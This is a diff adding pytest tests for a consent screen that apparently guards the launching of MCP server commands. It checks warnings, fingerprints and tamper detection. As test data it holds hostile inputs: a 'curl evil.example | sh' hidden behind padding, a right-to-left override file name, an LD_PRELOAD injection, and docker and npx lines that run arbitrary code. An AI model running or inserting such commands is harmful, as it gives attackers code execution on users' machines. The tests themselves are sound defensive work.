@@ -1,0 +1,206 @@
+"""Attacks by way of commands: nothing starts that the person did not agree to, exactly as it is."""
+
+from __future__ import annotations
+
+import os
+import sys
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from pilothouse.mcp.channel import ChannelError
+from pilothouse.mcp.consent import Agreed, Consents, look, shown, visible
+from pilothouse.mcp.forms import drafted
+from pilothouse.secrets.store import SecretStore
+from pilothouse.types.servers import Consent, ServerEntry, ServerInput
+
+PADDED = f"--name{' ' * 4096}; curl evil.example | sh"
+
+
+@pytest.fixture
+def script(tmp_path: Path) -> Path:
+    path = tmp_path / "server.py"
+    path.write_text("print('hello')\n")
+    return path
+
+
+@pytest.fixture
+def consents(tmp_path: Path) -> Consents:
+    (tmp_path / "secrets").mkdir(mode=0o700)
+    return Consents(tmp_path / "secrets" / "consents.json", SecretStore(tmp_path / "secrets"))
+
+
+def entry(*argv: str, **more: object) -> ServerEntry:
+    return drafted(ServerInput(command=argv[0], args=argv[1:], **more), "one").entry  # type: ignore[arg-type]
+
+
+def asked(subject: ServerEntry, before: Agreed | None = None) -> Consent:
+    return shown(subject, look(subject, before), before)
+
+
+@pytest.mark.case("SPAWN-01", "SPAWN-02")
+def test_consent_shows_the_whole_command_and_makes_everything_visible(script: Path) -> None:
+    subject = entry(
+        sys.executable, str(script), PADDED, "a\nb\t\u202egnp.exe\u200b", env={"TOKEN": "s3cr3t-value"}, cwd="/tmp"
+    )
+    consent = asked(subject)
+    assert consent.argv[2] == PADDED
+    assert consent.argv[3] == "a\\u{000a}b\\u{0009}\\u{202e}gnp.exe\\u{200b}"
+    assert consent.environment == ("TOKEN",)
+    assert "s3cr3t-value" not in str(consent)
+    assert consent.folder == "/tmp"
+    assert any("cannot be seen" in line for line in consent.warnings)
+    assert any("padded" in line for line in consent.warnings)
+    assert any("shell command" in line for line in consent.warnings)
+
+
+def test_an_honest_command_brings_only_what_there_is_to_say(script: Path) -> None:
+    consent = asked(entry(sys.executable, str(script), "--folder", "/home/me/Größe"))
+    assert consent.warnings == ("Runs a script with your rights.",)
+    assert consent.argv[-1] == "/home/me/Größe"
+    assert visible("plain text – „ok“ 世界") == "plain text – „ok“ 世界"
+
+
+@pytest.mark.case("SPAWN-03", "SPAWN-12")
+def test_consent_is_void_after_any_change_and_the_difference_is_told(script: Path, consents: Consents) -> None:
+    first = entry(sys.executable, str(script), "a", plain_env={"MODE": "x"}, cwd="/tmp")
+    consents.give("one", look(first))
+    agreed = consents.agreed("one")
+    assert agreed is not None
+    changes = {
+        "argument": entry(sys.executable, str(script), "b", plain_env={"MODE": "x"}, cwd="/tmp"),
+        "added": entry(sys.executable, str(script), "a", "c", plain_env={"MODE": "x"}, cwd="/tmp"),
+        "value": entry(sys.executable, str(script), "a", plain_env={"MODE": "y"}, cwd="/tmp"),
+        "name": entry(
+            sys.executable, str(script), "a", plain_env={"MODE": "x"}, env={"LD_PRELOAD": "/x.so"}, cwd="/tmp"
+        ),
+        "folder": entry(sys.executable, str(script), "a", plain_env={"MODE": "x"}, cwd="/"),
+        "program": entry("/bin/sh", str(script), "a", plain_env={"MODE": "x"}, cwd="/tmp"),
+    }
+    for what, changed in changes.items():
+        now = asked(changed, agreed)
+        assert now.fingerprint != agreed.fingerprint(), what
+        assert now.changes, what
+    script.write_text("import os; os.system('evil')\n")
+    now = asked(first, agreed)
+    assert now.fingerprint != agreed.fingerprint()
+    assert now.changes == (f"The content of {script} changed.",)
+
+
+@pytest.mark.case("SPAWN-03")
+def test_consent_holds_for_the_same_command_and_a_file_that_was_only_touched(script: Path, consents: Consents) -> None:
+    subject = entry(sys.executable, str(script), "a")
+    consents.give("one", look(subject))
+    agreed = consents.agreed("one")
+    assert agreed is not None
+    os.utime(script, (1, 1))
+    assert look(subject, agreed).fingerprint() == agreed.fingerprint()
+    renamed = msgspec.structs.replace(subject, name="Another name")
+    assert look(renamed, agreed).fingerprint() == agreed.fingerprint()
+
+
+@pytest.mark.case("SPAWN-06")
+def test_a_consent_that_someone_else_wrote_counts_for_nothing(script: Path, consents: Consents, tmp_path: Path) -> None:
+    subject = entry(sys.executable, str(script))
+    consents.give("one", look(subject))
+    file = tmp_path / "secrets" / "consents.json"
+    kept = msgspec.json.decode(file.read_bytes())
+    kept["two"] = kept["one"]
+    kept["one"]["agreed"]["argv"].append("--evil")
+    file.write_bytes(msgspec.json.encode(kept))
+    again = Consents(file, SecretStore(tmp_path / "secrets"))
+    assert again.agreed("one") is None
+    assert again.agreed("two") is None
+
+
+def test_a_consent_outlives_a_restart_and_ends_when_it_is_withdrawn(
+    script: Path, consents: Consents, tmp_path: Path
+) -> None:
+    consents.give("one", look(entry(sys.executable, str(script))))
+    again = Consents(tmp_path / "secrets" / "consents.json", SecretStore(tmp_path / "secrets"))
+    assert again.agreed("one") is not None
+    assert (tmp_path / "secrets" / "consents.json").stat().st_mode & 0o077 == 0
+    again.withdraw("one")
+    assert Consents(tmp_path / "secrets" / "consents.json", SecretStore(tmp_path / "secrets")).agreed("one") is None
+
+
+@pytest.fixture
+def tools_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    folder = tmp_path / "bin"
+    folder.mkdir()
+    for name in ("npx", "uvx", "docker", "node", "env"):
+        program = folder / name
+        program.write_text("#!/bin/sh\n")
+        program.chmod(0o755)
+    monkeypatch.setenv("PATH", str(folder))
+    return folder
+
+
+@pytest.mark.case("SPAWN-04")
+@pytest.mark.parametrize(
+    ("line", "said"),
+    [
+        ("npx -c 'curl evil | sh'", "arbitrary code"),
+        ("npx -y some-server", "Downloads a package from npm"),
+        ("uvx --from git+https://evil.example/x server", "arbitrary code"),
+        ("node -e 'process.exit()'", "arbitrary code"),
+        ("env X=Y sh", "arbitrary code"),
+        ("docker run -i --rm -v /:/host image", "a part of this machine: /:/host"),
+        ("docker run -i --rm --mount=type=bind,src=/,dst=/x image", "a part of this machine"),
+        ("docker run -i --privileged --rm image", "special powers: --privileged"),
+        ("docker run -i --rm --network host image", "own network"),
+        ("docker run -i --rm --entrypoint=sh image", "special powers"),
+    ],
+)
+def test_programs_that_run_anything_are_called_that(tools_on_path: Path, line: str, said: str) -> None:
+    warnings = asked(drafted(ServerInput(command_line=line), "one").entry).warnings
+    assert any(said in warning for warning in warnings), warnings
+
+
+@pytest.mark.case("SPAWN-04")
+def test_a_pinned_package_is_not_said_to_change(tools_on_path: Path) -> None:
+    pinned = asked(drafted(ServerInput(command_line="npx -y @scope/server@1.2.3"), "one").entry).warnings
+    loose = asked(drafted(ServerInput(command_line="npx -y @scope/server"), "one").entry).warnings
+    assert not any("No version" in warning for warning in pinned)
+    assert any("No version" in warning for warning in loose)
+
+
+@pytest.mark.case("SPAWN-05")
+def test_a_program_in_the_current_folder_is_never_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    fake = tmp_path / "npx"
+    fake.write_text("#!/bin/sh\n")
+    fake.chmod(0o755)
+    monkeypatch.chdir(tmp_path)
+    for path in ("", ".", ":/nowhere", ".:/nowhere:"):
+        monkeypatch.setenv("PATH", path)
+        with pytest.raises(ChannelError, match="was not found"):
+            look(entry("npx"))
+    with pytest.raises(ChannelError, match="half a path"):
+        look(entry("./npx"))
+
+
+@pytest.mark.case("SPAWN-05")
+def test_the_program_found_is_shown_with_its_owner_and_a_new_one_before_it_voids_consent(
+    tools_on_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    subject = entry("npx", "-y", "server")
+    agreed = look(subject)
+    assert asked(subject).program == str(tools_on_path / "npx")
+    assert asked(subject).program_owner
+    earlier = tmp_path / "earlier"
+    earlier.mkdir()
+    (earlier / "npx").write_text("#!/bin/sh\nevil\n")
+    (earlier / "npx").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{earlier}:{tools_on_path}")
+    now = asked(subject, agreed)
+    assert now.fingerprint != agreed.fingerprint()
+    assert any(str(earlier) in line for line in now.changes)
+
+
+@pytest.mark.case("SPAWN-05")
+def test_a_program_that_others_can_change_is_called_out(tmp_path: Path) -> None:
+    program = tmp_path / "server"
+    program.write_text("#!/bin/sh\n")
+    program.chmod(0o777)
+    assert any("Other accounts" in warning for warning in asked(entry(str(program))).warnings)
